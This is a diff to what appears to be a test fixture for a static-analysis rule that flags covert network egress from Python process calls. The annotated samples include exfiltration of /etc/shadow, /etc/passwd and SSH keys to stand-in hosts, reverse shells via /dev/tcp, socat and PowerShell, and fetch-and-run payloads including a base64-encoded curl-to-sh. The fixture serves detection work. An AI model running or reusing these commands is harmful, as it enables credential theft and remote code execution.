@@ -4,6 +4,7 @@ import importlib
 import os
 import socket
 import subprocess
+import sys
 from subprocess import check_output as co
 from urllib.request import urlopen
 
@@ -23,6 +24,146 @@ subprocess.Popen(["sh", "-c", "scp dump.sql backup@198.51.100.9:/tmp"])
 subprocess.run(["git", "status"])
 # ok: covert.process-egress
 subprocess.run("ls -la curl_results", shell=True)
+
+# Shell commands are parsed like a shell: only the program at a command position runs.
+import asyncio
+import pty
+import shlex
+import threading
+from concurrent.futures import ThreadPoolExecutor
+# ok: covert.process-egress
+os.system("echo curl https://203.0.113.5/x")
+# ok: covert.process-egress
+subprocess.run("grep wget /var/log/build.log", shell=True)
+# ok: covert.process-egress
+subprocess.run(["man", "ssh"])
+# ok: covert.process-egress
+subprocess.run("command -v curl >/dev/null", shell=True)
+# ok: covert.process-egress
+subprocess.check_output(["curl", "--version"])
+# ok: covert.process-egress
+subprocess.run(["pip", "list"])
+# ok: covert.process-egress
+subprocess.run("scp a.txt b.txt", shell=True)
+# ok: covert.process-egress
+subprocess.run(["git", "commit", "-m", "push the curl fix"])
+# ok: covert.process-egress
+subprocess.run("certutil -decode in.b64 out.exe", shell=True)
+# ok: covert.process-egress
+subprocess.run(["pip", "install", "--no-index", "--find-links", "wheels", "pkg"])
+# ruleid: covert.process-egress host=198.51.100.7
+subprocess.run('"curl" -s "https://198.51.100.7/x"', shell=True)
+# ruleid: covert.process-egress host=exfil.example.net
+os.system("A=1 sudo -u root timeout 5 curl -o /tmp/o -d @/etc/shadow exfil.example.net")
+# ruleid: covert.process-egress host=198.51.100.8
+subprocess.Popen(["bash", "-lc", "cd /tmp && wget -q -O- http://198.51.100.8/s | sh"])
+# ruleid: covert.process-egress host=c2.example.org
+os.system("echo $(curl -s https://c2.example.org/cmd)")
+# ruleid: covert.process-egress host=198.51.100.9
+subprocess.run("U=http://198.51.100.9/u; curl -F f=@data $U", shell=True)
+# ruleid: covert.process-egress host=backup.example.com
+subprocess.run(["rsync", "-az", "-e", "ssh -p 2222", "/srv/", "deploy@backup.example.com:/srv/"])
+# ruleid: covert.process-egress host=jump.example.com
+subprocess.run(["ssh", "-i", "key.pem", "-p", "22", "ops@jump.example.com", "uptime"])
+# ruleid: covert.process-egress host=198.51.100.10
+subprocess.run("bash -i >& /dev/tcp/x/1 0>&1 | nc -w 3 198.51.100.10 4444", shell=True)
+# ruleid: covert.process-egress host=198.51.100.11
+subprocess.run(["socat", "exec:/bin/sh", "tcp:198.51.100.11:9001"])
+# ruleid: covert.process-egress host=github.com
+subprocess.run(["git", "-C", "/tmp/r", "push", "git@github.com:attacker/loot.git", "main"])
+# ruleid: covert.process-egress host=gitlab.example.com
+subprocess.run("git clone https://gitlab.example.com/team/app.git", shell=True)
+# ruleid: covert.process-egress host=-
+subprocess.run(["git", "push", "origin", "main"])
+# ruleid: covert.process-egress host=pypi.org
+subprocess.check_call([sys.executable, "-m", "pip", "install", "requests==2.32.0"])
+# ruleid: covert.process-egress host=pkgs.example.net
+subprocess.run("pip install -i https://pkgs.example.net/simple internal-lib", shell=True)
+# ruleid: covert.process-egress host=upload.pypi.org
+os.system("twine upload dist/*")
+# ruleid: covert.process-egress host=pypi.example.org
+os.system("twine upload --repository-url https://pypi.example.org/legacy/ dist/*")
+# ruleid: covert.process-egress host=registry.example.com
+subprocess.run(["docker", "push", "registry.example.com/team/app:1.0"])
+# ruleid: covert.process-egress host=docker.io
+subprocess.run("docker push attacker/stolen:latest", shell=True)
+# ruleid: covert.process-egress host=s3://loot-bucket
+subprocess.run(["aws", "s3", "cp", "/etc/passwd", "s3://loot-bucket/p"])
+# ruleid: covert.process-egress host=gs://drop-zone
+subprocess.run("gsutil cp secrets.json gs://drop-zone/", shell=True)
+# ruleid: covert.process-egress host=acct1.blob.core.windows.net
+subprocess.run(["az", "storage", "blob", "upload", "--account-name", "acct1", "-f", "db.sql", "-c", "c", "-n", "db"])
+# ruleid: covert.process-egress host=*.exfil.example.com
+os.system("nslookup $(whoami).exfil.example.com")
+# ruleid: covert.process-egress host=198.51.100.12
+subprocess.run(["ping", "-c", "1", "198.51.100.12"])
+# ruleid: covert.process-egress host=dl.example.net
+subprocess.run('cmd /c "certutil -urlcache -split -f http://dl.example.net/a.exe a.exe"', shell=True)
+# ruleid: covert.process-egress host=dl2.example.net
+subprocess.run(["cmd.exe", "/c", "bitsadmin", "/transfer", "j", "/download", "http://dl2.example.net/b", "C:\\b"])
+# ruleid: covert.process-egress host=hta.example.net
+subprocess.run(["mshta", "http://hta.example.net/x.hta"])
+# ruleid: covert.process-egress host=ps.example.net
+subprocess.run(["powershell", "-NoProfile", "-Command", "iwr -Uri https://ps.example.net/p -OutFile p.exe"])
+# ruleid: covert.process-egress host=wc.example.net
+subprocess.run("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://wc.example.net/s.ps1')\"", shell=True)
+# ruleid: covert.process-egress host=enc.example.net
+subprocess.run(["powershell", "-enc", "aQB3AHIAIABoAHQAdABwADoALwAvAGUAbgBjAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AA=="])
+# ruleid: covert.process-egress host=10.9.8.7
+subprocess.run(["powershell", "-c", "$c = New-Object System.Net.Sockets.TCPClient('10.9.8.7',4444)"])
+# ruleid: covert.process-egress host=bits.example.net
+subprocess.run(["pwsh", "-c", "Start-BitsTransfer -Source https://bits.example.net/x -Destination x"])
+# ruleid: covert.process-egress host=exec.example.net
+os.execvp("curl", ["curl", "-s", "https://exec.example.net/"])
+# ruleid: covert.process-egress host=execl.example.net
+os.execl("/usr/bin/wget", "wget", "http://execl.example.net/a")
+# ruleid: covert.process-egress host=spawn.example.net
+pty.spawn(["ssh", "root@spawn.example.net"])
+# ruleid: covert.process-egress host=aio.example.net
+asyncio.create_subprocess_exec("curl", "-d", "@/etc/hosts", "https://aio.example.net/")
+# ruleid: covert.process-egress host=aio2.example.net
+asyncio.create_subprocess_shell("cat ~/.ssh/id_rsa | nc aio2.example.net 80")
+
+EXFIL = "https://const.example.net/drop"
+CURL = ["curl", "-s", "-X", "POST"]
+# ruleid: covert.process-egress host=const.example.net
+subprocess.run(CURL + ["--data-binary", "@/etc/passwd", EXFIL])
+# ruleid: covert.process-egress host=split.example.net
+subprocess.run(shlex.split("wget -q 'http://split.example.net/a b'"))
+# ruleid: covert.process-egress host=join.example.net
+os.system(" ".join(["curl", "-s", "https://join.example.net/"]))
+# ruleid: covert.process-egress host=fmt.example.net
+os.system("curl -s http://%s/x" % "fmt.example.net")
+# ruleid: covert.process-egress host=format.example.net
+os.popen("wget {}".format("https://format.example.net/z"))
+
+# ok: covert.process-egress
+subprocess.run(["mshta", "local.hta"])
+# ruleid: covert.process-egress host=pypi.org
+subprocess.run("pip3.11 install zope.interface", shell=True)
+# ruleid: covert.process-egress host=github.com
+subprocess.run(["pip", "install", "git+https://github.com/someone/pkg.git"])
+# ruleid: covert.process-egress host=registry.example.io
+subprocess.run(["docker", "login", "-u", "ci", "--password-stdin", "registry.example.io"])
+# ruleid: covert.process-egress host=drop.example.net
+os.system("powershell -window hidden -executionpolicy bypass (New-Object System.Net.WebClient).DownloadFile('http://drop.example.net/a.exe',$env:TEMP+'\\a.exe'); Start-Process $env:TEMP'\\a.exe'")
+# ruleid: covert.process-egress host=ftp.example.org
+subprocess.run(["/usr/bin/env", "busybox", "ftp", "ftp.example.org"])
+# ruleid: covert.process-egress host=thread.example.net
+threading.Thread(target=os.system, args=("curl -d @/etc/passwd https://thread.example.net",)).start()
+# ok: covert.process-egress
+threading.Thread(target=subprocess.run, args=(["echo", "curl", "x.example.net"],)).start()
+# ruleid: covert.process-egress host=pool.example.net
+ThreadPoolExecutor().submit(os.execvp, "wget", ["wget", "http://pool.example.net/x"])
+# ruleid: covert.obfuscated-destination host=b64.example.net
+os.system(base64.b64decode("Y3VybCAtcyBodHRwczovL2I2NC5leGFtcGxlLm5ldC94IHwgc2g=").decode())
+
+
+def upload(url, path):
+    # ruleid: covert.process-egress host=-
+    subprocess.run(["curl", "-T", path, url])
+    # ruleid: covert.process-egress host=-
+    os.system(f"scp {path} {url}:/tmp/")
 
 token = os.environ["API_TOKEN"]
 # ruleid: covert.dns-exfil
